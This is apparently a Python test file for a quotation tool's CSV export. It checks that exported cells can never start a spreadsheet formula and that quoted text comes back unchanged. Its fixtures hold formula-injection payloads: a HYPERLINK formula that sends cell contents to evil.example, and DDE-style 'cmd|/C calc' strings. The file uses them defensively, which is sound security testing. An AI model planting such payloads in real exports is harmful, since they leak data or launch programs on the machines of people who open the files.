"""CSV: no cell begins a formula, and each slice is had back character for character."""

from __future__ import annotations

import csv
import io

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from onrecord.faces.cli.app import main
from onrecord.render.citation import cite
from onrecord.render.csv import csv_table
from onrecord.types import Mode, Quote
from tests import corpora

FORMULAS = (
    '=HYPERLINK("http://evil.example/?"&A1,"open")',
    "@SUM(1+1)|calc",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "|calc",
    "＝1+1",
    "﹢1+1",
    "−1+1",
)
BEFORE = (
    "", " ", "\t", "\r", "\n", "\xa0", "\u200b", "\ufeff", "\u2003", "\u3000", "\u00ad", "\u2060", "\u180e",
    "\u200e", "\u202e", "\x00", "\x1f", "\x7f", "\x85", "\u2028", "\ufe0f", "\u034f", "\u3164", "\u2800",
    "\U000e0020", " \xa0\u200b\ufeff",
)  # fmt: skip
SIGNS = "=+-@|＝＋－＠﹢﹣﹦﹫−"
texts = st.text(st.characters() | st.sampled_from([*'",;“”\n\r\t\x00\ud800\u202e', *SIGNS]), max_size=40)
RECORDS = (
    {
        "id": "one",
        "title": '=HYPERLINK("http://evil.example","Harbour")',
        "published": "2023-03-14",
        "outlet": "\u200b@Island Post",
        "text": (
            "“=HYPERLINK(A1) is what we will close in May,” Adele Ostrow told reporters. "
            "“-1 is “no” number,” Adele Ostrow said.\r\n\r\n"
        ),
    },
)


def rows_of(table: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(table, newline="")))


def quote_of(text: str, **known: str) -> Quote:
    named = {"title": "Talks", "file": "a.txt", "speaker": "Ann Lee", "outlet": "The Paper"} | known
    return Quote("a", start=0, end=len(text), text=text, sha256="0" * 64, mode=Mode.DIRECT, **named)


@pytest.fixture(scope="module")
def settings(tmp_path_factory):
    return corpora.indexed(tmp_path_factory.mktemp("tables"), RECORDS)


@pytest.fixture
def run(settings, capsys):
    def command(*arguments):
        assert main([*arguments, "--corpus", str(settings.corpus), "--index", str(settings.index)]) == 0
        return capsys.readouterr().out

    return command


@pytest.mark.parametrize("before", BEFORE)
@pytest.mark.parametrize("formula", FORMULAS)
def test_no_cell_begins_a_formula_whatever_stands_before_its_sign(before, formula):
    cell = before + formula
    (row,) = rows_of(csv_table(["slice", "name", "names"], [[cell, cell, [cell, "x"]]], slices=["slice"]))
    assert row == {"slice": f"“{cell}”", "name": f"'{cell}", "names": f"'{cell}; x"}
    cited = rows_of(
        cite(quote_of(cell, title=cell, speaker=cell, outlet=cell, file=cell), url=None, form="csv")
    )
    assert {cited[0][name] for name in ("title", "speaker", "outlet", "file")} == {f"'{cell}"}


@given(slice_=texts, name=texts)
@example(slice_='a "quoted" word, and\r\nanother\rline\n', name="\ud800=1")
@example(slice_="“already” marked”", name="'=1")
@example(slice_="\x00", name="")
def test_a_slice_is_had_back_between_its_cells_first_and_last_character(slice_, name):
    (row,) = rows_of(csv_table(["slice", "name"], [[slice_, name]], slices=["slice"]))
    assert (row["slice"][0], row["slice"][1:-1], row["slice"][-1]) == ("“", slice_, "”")
    assert row["name"] in (name, f"'{name}")
    (cited,) = rows_of(cite(quote_of(slice_), url=None, form="csv"))
    assert cited["quotation"][1:-1] == slice_


def test_numbers_and_ordinary_names_stay_as_they_are():
    table = csv_table(["a", "b", "c", "d"], [[-3, "O'Neill – “x” = y", None, "2023-03-14"]])
    assert rows_of(table) == [{"a": "-3", "b": "O'Neill – “x” = y", "c": "", "d": "2023-03-14"}]


def test_quotes_and_speakers_as_csv_begin_no_formula_and_keep_the_slice(run):
    text = RECORDS[0]["text"]
    rows = rows_of(run("quotes", "--csv", "--mode", "all"))
    assert rows
    for row in rows:
        assert row["text"][1:-1] == text[int(row["start"]) : int(row["end"])]
        assert (row["title"], row["outlet"][:1]) == (f"'{RECORDS[0]['title']}", "'")
    told = run("quotes", "--csv", "--mode", "all") + run("speakers", "--csv")
    cells = [cell for row in csv.reader(io.StringIO(told, newline="")) for cell in row]
    assert not [cell for cell in cells if cell.strip(" \xa0\u200b\ufeff").startswith(tuple(SIGNS))]
